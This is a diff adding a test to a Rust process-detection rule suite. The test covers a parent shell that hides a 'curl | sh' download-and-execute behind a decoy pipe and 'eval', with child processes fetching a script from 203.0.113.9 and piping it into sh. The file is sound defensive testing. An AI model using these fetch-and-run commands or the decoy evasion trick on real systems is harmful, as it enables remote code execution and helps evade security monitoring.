@@ -355,6 +355,35 @@ fn a_scripts_download_into_a_shell_is_seen_by_its_siblings_without_fd_access() {
         SEC,
     );
     assert_eq!(out, ["PF-DOWNLOAD-SHELL"], "one rule for one pipeline");
+    // A parent whose command line pipes a downloader into something else than a shell,
+    // and runs the real `curl | sh` by eval: PF-DOWNLOAD-SHELL does not see it in the
+    // command line, so the siblings rule must judge it. Before, any `curl … |` in the
+    // parent's command line excepted it, and neither rule fired.
+    let decoy = ancestor(
+        860,
+        8600,
+        "sh",
+        None,
+        &[
+            "sh",
+            "-c",
+            "curl -so /dev/null http://x/ok | true; eval \"$RUN\"",
+        ],
+    );
+    let (c, s) = (
+        child(861, &["curl", "-s", "http://203.0.113.9/x.sh"], &decoy),
+        child(862, &["sh"], &decoy),
+    );
+    let out = fired(
+        &mut managed(),
+        &[Record::Process(c), Record::Process(s)],
+        SEC,
+    );
+    assert_eq!(
+        out,
+        ["PF-DOWNLOAD-SHELL-SIBLINGS"],
+        "a decoy pipe in the parent"
+    );
     let other = ancestor(900, 9000, "sh", None, &["sh", "other.sh"]);
     for (what, a, b) in [
         (
